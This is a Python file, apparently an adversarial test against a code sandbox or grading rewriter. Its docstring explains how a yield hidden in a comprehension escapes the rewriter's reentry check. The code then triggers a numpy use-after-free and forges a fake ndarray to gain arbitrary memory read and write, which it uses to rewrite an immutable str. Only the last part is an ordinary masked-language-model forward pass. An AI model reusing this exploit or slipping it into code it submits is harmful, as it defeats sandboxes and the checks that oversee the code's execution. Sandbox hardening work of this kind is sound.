"""Hostile: a generator's `except`, `finally` and after-`with` code gets the check of who called only
where the rewrite sees a `yield` in the function's own scope (_check_reentries, _own_scope). A
comprehension's first iterable is evaluated in the enclosing function, so `[0 for _ in ((yield 0)
or ())]` is that generator's `yield`, yet _own_scope does not look inside comprehensions (nor
lambdas' defaults, nor classes' bases): the generator gets no check at its `finally:`. The file
starts it, hands it to itertools.islice(g, 0) inside a collections.ChainMap, and numpy.array(items)
walks a pointer to the list's item block and asks that ChainMap its length: the islice drops the
generator, whose `finally:` runs unchecked under numpy and empties the list. The freed block is
taken by bytes of the file's: pointers to fakes whose __len__ is functools.partialmethod(found.append)
(library code) hand out any address as an object, a fake int64 ndarray over a real array's header.
The file reads an int's header and rewrites an immutable str, then answers honestly."""

import collections
import functools
import itertools
import math

import numpy as np
import torch


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


def empties():  # started by the file; its finally runs when the last reference goes
    try:
        [0 for _ in ((yield 0) or ())]  # its only yield, in a comprehension's first iterable
    finally:
        items.clear()  # numpy still walks the item block this frees
        for k in range(len(sprayed)):
            sprayed[k] = pointers.to_bytes(767, "little")  # the freed block, now bytes of the file's


def started():
    g = empties()
    next(g)
    return g


found = []


class Fake:
    __slots__ = ("x",)
    __len__ = functools.partialmethod(found.append)  # library Python code hands numpy's object to a list

    def __getitem__(self, i):
        raise IndexError(i)


victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
shape = words(12, 8)
fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
fake = words(0, 0, 1 << 40, id(Fake), id(fake_array) + 32)  # a zero GC header, then a Fake whose x is the array
fake_at = id(fake) + 32 + 16
pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
sprayed = [None] * 8
items = [1.0, 2.0, 3.0, collections.ChainMap(itertools.islice(started(), 0))] + [0.0] * 96
try:
    np.array(items, dtype=np.float64)
except (ValueError, RuntimeError, TypeError):  # the list changed under numpy
    pass
header = found[0].x  # victim's header as int64 words: [2] is its data pointer
own_data = int(header[2])


def read(at, n):
    header[2] = at
    data = bytes(victim[:n].tolist())
    header[2] = own_data
    return data


def write(at, data):
    header[2] = at
    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
    header[2] = own_data


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
